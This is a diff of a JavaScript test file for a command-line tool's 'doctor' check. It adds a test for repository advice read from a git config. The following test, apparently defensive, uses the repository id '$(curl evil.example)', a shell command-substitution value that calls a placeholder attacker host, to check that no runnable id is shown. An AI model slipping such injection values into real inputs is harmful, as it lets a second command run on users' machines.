@@ -157,6 +157,15 @@ test("doctor fails when no repository is given to a job that needs one, and coun
   ]);
 });
 
+test("doctor names the repository of a clone if stdout is not a terminal, as a start does", async () => {
+  const files = { ".git/config": '[remote "origin"]\n\turl = https://github.com/acme/api.git\n' };
+  const { cli } = world("success");
+  const { code, stdout } = await cli(["doctor", "--json"], { env: { HOME: "/h/me" }, files });
+  const lines = stdout.trim().split("\n").map((line) => JSON.parse(line));
+  const check = lines.flatMap((line) => line.checks ?? line).find(({ name }) => name === "repository");
+  expect([code, check.advice]).toEqual([2, "Add --repo acme/api"]);
+});
+
 test("doctor shows no id that a shell could run", async () => {
   const repo = {
     id: "$(curl evil.example)",
